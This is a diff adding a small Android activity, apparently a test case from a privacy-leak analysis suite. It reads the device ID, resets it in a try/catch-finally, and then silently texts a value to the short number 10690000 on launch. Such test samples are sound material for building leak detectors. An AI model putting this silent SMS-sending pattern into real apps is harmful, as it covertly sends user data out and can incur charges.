@@ -1,0 +1,22 @@
+package cn.privlens.suite.finally_after_reset;
+
+import android.app.Activity;
+import android.os.Bundle;
+import android.provider.Settings;
+import android.telephony.SmsManager;
+
+public class Main extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        String id = Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID);
+        try {
+            Integer.parseInt("x1");
+            id = "";
+        } catch (NumberFormatException e) {
+            id = "none";
+        } finally {
+            SmsManager.getDefault().sendTextMessage("10690000", null, id, null, null);
+        }
+    }
+}
